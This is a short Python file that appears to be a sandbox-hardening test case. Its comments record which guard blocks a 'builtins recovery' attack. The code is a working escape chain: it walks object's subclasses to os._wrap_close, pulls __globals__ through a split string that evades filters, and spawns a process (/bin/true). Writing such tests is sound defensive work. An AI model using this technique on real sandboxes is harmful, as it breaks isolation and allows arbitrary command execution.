# attack: builtins recovery
# stops: guards: __build_class__ not found
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# a class statement: its mro() reaches object without a dunder
class A:
    pass
for c in vars(type)["__subclasses__"](A.mro()[-1]):
    if "os._wrap_close" in repr(c):
        found = getattr(vars(c)["__init__"], "__glo" + "bals__")
        print("ESCAPED", found["posix_spawn"]("/bin/true", ["true"], {}))
